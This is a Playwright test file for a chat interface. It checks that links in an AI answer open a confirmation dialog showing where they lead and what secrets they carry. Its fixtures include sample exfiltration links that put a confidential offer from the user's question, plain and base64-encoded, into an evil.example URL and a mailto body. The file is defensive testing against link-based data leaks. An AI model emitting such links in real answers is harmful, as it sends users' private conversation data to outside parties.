"""A link of an answer that nobody knew is shown before it is followed: where it leads, all of it, and what of the
conversation it would carry along. What the person wrote and what is a source opens at once.
"""

import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Locator, Page, Route, expect

from agents.engine import events as e
from tests.page.conftest import FORMS, Watched
from tests.page.hostile_markdown import everything_hostile
from tests.page.recorded import Recorded
from tests.page.stage import Stage, Turn
from tests.page.test_approvals import SETTLE, faults_of
from tests.page.test_run import open_run, part
from tests.page.test_store import RUN_ALL

SECRET = "The offer to Ottoline is 4.2 million"
QUESTION = f"{SECRET}. Nobody may know. Is https://trains.example/times right?"
SOURCE = e.Source(type="web", source="News", url="https://news.example/acme")
CODED = base64.urlsafe_b64encode(SECRET.encode()).decode().rstrip("=")
LEAK = f"https://evil.example/p?d={quote(SECRET)}&b={CODED}&x=1"
ANSWER = (
    f"[Times](https://trains.example/times), [news](https://news.example/acme), [more]({LEAK}), "
    "[write](mailto:eve@evil.example?body=4.2%20million), [elsewhere](https://other.example/)"
)
FOLLOW_ALL = """async () => {
    const told = { followed: 0, without: [] };
    const step = () => new Promise((resolve) => setTimeout(resolve));
    for (const link of document.querySelectorAll("#shown [data-leads-to]")) {
        link.click();
        for (let turn = 0; turn < 20 && !document.querySelector("dialog[open]"); turn++) await step();
        const dialog = document.querySelector("dialog[open]");
        const shown = dialog?.querySelector(".link-address").textContent ?? "";
        if (!dialog || !shown) told.without.push(link.dataset.leadsTo);
        if (dialog?.querySelector(":is(script, img, iframe, svg:not(.icon))")) told.without.push(`markup: ${shown}`);
        dialog?.querySelector("button").click();
        for (let turn = 0; turn < 20 && document.querySelector("dialog[open]"); turn++) await step();
        told.followed++;
    }
    return told;
}"""


def answered() -> Recorded:
    run = Recorded()
    run.agent("chat", "chat", "running", task="Which train?")
    run.tell("chat", e.SourceFound(source=SOURCE))
    run.say("chat", ANSWER)
    run.agent("chat", "chat", "completed")
    run.finish(ANSWER, SOURCE)
    return run


@pytest.fixture
def stage(open_stage: Any) -> Stage:
    made: Stage = open_stage(Turn(answered(), question=QUESTION, status="completed"))
    return made


def link(page: Page, name: str) -> Locator:
    return page.locator(".answer .prose").get_by_role("link", name=name, exact=True)


def asked(page: Page) -> Locator:
    return page.get_by_role("dialog", name="Open this link?")


def test_what_is_known_and_what_an_address_carries_is_told_by_pure_code(page_for_cases: Page, static_site: str) -> None:
    result = page_for_cases.evaluate(RUN_ALL, f"{static_site}/tests/page/links_cases.mjs")

    assert result["faults"] == {}
    assert result["count"] >= 9


@pytest.fixture
def page_for_cases(watched: Watched, static_site: str) -> Page:
    page = watched.new_page()
    page.goto(f"{static_site}/tests/page/render.html")
    page.wait_for_function("typeof show === 'function'")
    return page


@pytest.mark.threat("T12")
@pytest.mark.spec("B24")
def test_an_address_that_nobody_knew_is_shown_before_it_is_followed(stage: Stage) -> None:
    page = stage.page
    for name in ("Times", "news"):
        expect(link(page, name)).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(link(page, name)).to_have_attribute("target", "_blank")
    for name in ("more", "write", "elsewhere"):
        expect(link(page, name)).not_to_have_attribute("href", "")
        assert link(page, name).get_attribute("href") is None, "nothing that a browser could follow by itself"

    link(page, "more").click()

    dialog = asked(page)
    expect(dialog.locator(".link-host")).to_have_text("evil.example")
    expect(dialog.locator(".link-address")).to_have_text(f"https://evil.example/p?d={SECRET}&b={CODED}&x=1")
    assert dialog.locator("mark").all_inner_texts() == [SECRET, CODED]
    expect(dialog.locator(".link-reads li")).to_have_text([f"Written in code, it says: {SECRET}"])
    expect(dialog.locator(".link-warning")).to_contain_text("Whoever is behind evil.example would get it.")
    expect(dialog.get_by_role("button", name="Cancel")).to_be_focused()
    page.keyboard.press("Enter")
    expect(dialog).to_have_count(0)
    expect(link(page, "more")).to_be_focused()
    assert len(page.context.pages) == 1


@pytest.mark.threat("T12")
def test_neither_keyboard_nor_middle_button_nor_menu_passes_by_the_question(stage: Stage) -> None:
    page = stage.page
    ways: list[Callable[[], None]] = [
        lambda: page.keyboard.press("Enter"),
        lambda: link(page, "elsewhere").click(button="middle"),
        lambda: link(page, "elsewhere").click(modifiers=["ControlOrMeta"]),
    ]
    for follow in ways:
        link(page, "elsewhere").focus()
        follow()
        expect(asked(page).locator(".link-host")).to_have_text("other.example")
        expect(asked(page).locator(".link-warning")).to_have_count(0)
        page.keyboard.press("Escape")
        expect(asked(page)).to_have_count(0)
        expect(link(page, "elsewhere")).to_be_focused()
    link(page, "write").click()
    expect(asked(page).locator(".link-address")).to_have_text("mailto:eve@evil.example?body=4.2 million")
    expect(asked(page).locator("mark")).to_have_text("4.2 million")
    page.keyboard.press("Escape")

    assert len(page.context.pages) == 1


def test_who_has_read_it_opens_or_copies_it(stage: Stage) -> None:
    page = stage.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    told: list[dict[str, str]] = []

    def answer(route: Route) -> None:
        told.append(route.request.headers)
        route.fulfill(body="<title>Elsewhere</title>", content_type="text/html")

    page.context.route("https://other.example/**", answer)
    link(page, "elsewhere").click()

    asked(page).get_by_role("button", name="Copy address").click()
    expect(asked(page).get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "https://other.example/"
    with page.context.expect_page() as opened:
        asked(page).get_by_role("link", name="Open").click()

    opened.value.wait_for_load_state()
    assert opened.value.url == "https://other.example/"
    assert opened.value.evaluate("window.opener") is None
    assert "referer" not in told[0]
    expect(asked(page)).to_have_count(0)


@pytest.mark.slow
@pytest.mark.threat("T10", "T12")
@pytest.mark.spec("B24")
def test_no_payload_gets_past_the_question_or_runs_in_it(
    page_for_cases: Page, watched: Watched, static_site: str
) -> None:
    page, followed, without = page_for_cases, 0, []
    for name, text in everything_hostile().items():
        page.evaluate("clear()")
        page.evaluate("text => show(text)", text)
        told = page.evaluate(FOLLOW_ALL)
        followed += told["followed"]
        without += [(name, one) for one in told["without"]]
    page.wait_for_load_state("networkidle")

    assert without == []
    assert followed >= 10
    assert len(watched.context.pages) == 1
    assert (watched.dialogs, watched.foreign, watched.errors) == ([], [], [])
    assert page.url == f"{static_site}/tests/page/render.html"


@pytest.mark.slow
@pytest.mark.parametrize("form", FORMS)
def test_the_question_fits_and_can_be_used_by_everybody(open_stage: Any, form: str, tmp_path: Path) -> None:
    options = {**FORMS[form], **({"has_touch": True} if "phone" in form else {})}
    page = open_stage(Turn(answered(), question=QUESTION, status="completed"), **options).page
    if "phone" in form:
        link(page, "more").tap()
    else:
        link(page, "more").click()
    expect(asked(page)).to_be_visible()
    page.evaluate(SETTLE)
    pictures = Path("var/pages")
    pictures.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=pictures / f"link-{form.replace(' ', '-')}.png")

    assert faults_of(page) == []


def test_in_the_run_view_it_asks_too(stage: Stage) -> None:
    page = stage.page
    open_run(page)
    part(page, "Timeline")
    shown = page.locator(".run-answer")
    expect(shown.get_by_role("link", name="Times")).to_have_attribute("href", "https://trains.example/times")

    shown.get_by_role("link", name="more").click()

    expect(asked(page).locator("mark")).to_have_text([SECRET, CODED])


@pytest.mark.slow
@pytest.mark.threat("T12")
def test_on_a_shared_page_every_link_but_the_sources_asks(live_site: Any, person: Any, visit: Any) -> None:
    alice = person()
    run = alice.ask("[the offer](https://evil.example/p?d=harbour-plans) harbour plans", mode="chat")
    live_site.until_ended(run)
    [row] = live_site.query("SELECT conversation_id FROM agents_execution WHERE id = %s", run)
    made = alice.post(f"conversations/{row['conversation_id']}/share", {})
    assert made.status_code == 201, made.text
    strangers = visit(None)
    page = strangers.new_page()
    page.goto(made.json()["url"])

    page.locator(".shared-text").get_by_role("link", name="the offer").click()

    expect(asked(page).locator(".link-host")).to_have_text("evil.example")
    expect(asked(page).locator("mark")).to_have_text("harbour-plans")
    page.keyboard.press("Escape")
    expect(page.locator(".shared-text").get_by_role("link", name="the offer")).to_be_focused()
    assert (strangers.errors, strangers.foreign, strangers.dialogs) == ([], [], [])
    assert len(strangers.context.pages) == 1
